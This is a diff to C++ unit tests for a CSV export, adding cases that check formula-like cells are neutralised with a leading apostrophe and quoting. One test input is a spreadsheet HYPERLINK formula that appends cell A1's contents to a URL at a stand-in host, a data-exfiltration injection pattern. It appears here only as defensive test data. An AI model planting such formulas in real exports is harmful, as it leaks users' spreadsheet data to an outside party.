@@ -64,6 +64,20 @@ TEST(CsvField, QuotesOnlyWhatNeedsIt) {
       {"cr\rhere", "\"cr\rhere\""},
       {"\"", "\"\"\"\""},
       {"é → ²", "é → ²"},
+      // A cell a spreadsheet would run as a formula gets an apostrophe first, then the quoting.
+      {"=HYPERLINK(\"http://x.test/?\"&A1,\"Ann\")",
+       "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Ann\"\")\""},
+      {"-> AgCl", "'-> AgCl"},
+      {"+Ag", "'+Ag"},
+      {"-", "'-"},
+      {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+      {"=1+2", "'=1+2"},
+      {"\tindent", "'\tindent"},
+      {"\r=1", "\"'\r=1\""},
+      {"-1,5", "\"'-1,5\""},
+      {"a=b", "a=b"},
+      {"Ag+", "Ag+"},
+      {" =1", " =1"},
   };
   for (const auto& [text, quoted] : cases) EXPECT_EQ(CsvField(text), quoted) << text;
 }
@@ -77,6 +91,8 @@ TEST(CsvExport, EveryAnswerComesBackFieldForFieldWithTheHeaderFirst) {
   answers[0].question = "Mix \"lead(II) nitrate\", potassium iodide, and stir";
   answers[1].question = "Two lines:\r\nfirst, then \"second\"";
   answers[2].student = "Ñuñez, José";
+  answers[3].student = "=HYPERLINK(\"http://x.test/?\"&A1,\"Ann\")";
+  answers[4].firstAnswer = "-> AgCl";
   std::string why;
   for (const TAnswerRecord& r : answers) ASSERT_TRUE(store.Record(r, why)) << why;
 
@@ -91,6 +107,9 @@ TEST(CsvExport, EveryAnswerComesBackFieldForFieldWithTheHeaderFirst) {
   EXPECT_EQ(rows[0], CsvHeader());
   std::vector<std::vector<std::string>> expected;
   for (const TAnswerRecord& r : answers) expected.push_back(CsvFields(r));
+  // What a spreadsheet would run is read back as text, behind an apostrophe.
+  expected[3][1] = "'" + answers[3].student;
+  expected[4][10] = "'-> AgCl";
   std::vector<std::vector<std::string>> read(rows.begin() + 1, rows.end());
   std::sort(expected.begin(), expected.end());
   std::sort(read.begin(), read.end());
